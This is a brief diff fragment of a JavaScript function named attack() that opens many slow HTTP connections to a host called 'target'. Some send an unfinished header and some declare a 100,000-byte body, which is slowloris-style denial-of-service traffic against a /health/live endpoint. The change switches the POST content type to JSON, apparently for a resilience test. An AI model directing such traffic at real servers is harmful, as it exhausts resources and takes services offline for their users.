@@ -96,7 +96,7 @@ async function attack() {
   const slow = [];
   const header = 'GET /health/live HTTP/1.1\r\nHost: target\r\nX-Slow: ';
   const bodyHeaders =
-    'POST /health/live HTTP/1.1\r\nHost: target\r\ncontent-type: text/plain\r\ncontent-length: 100000\r\n\r\n';
+    'POST /health/live HTTP/1.1\r\nHost: target\r\ncontent-type: application/json\r\ncontent-length: 100000\r\n\r\n';
   for (let i = 0; i < CLIENTS + BODY_CLIENTS; i++) {
     const body = i >= CLIENTS;
     setTimeout(
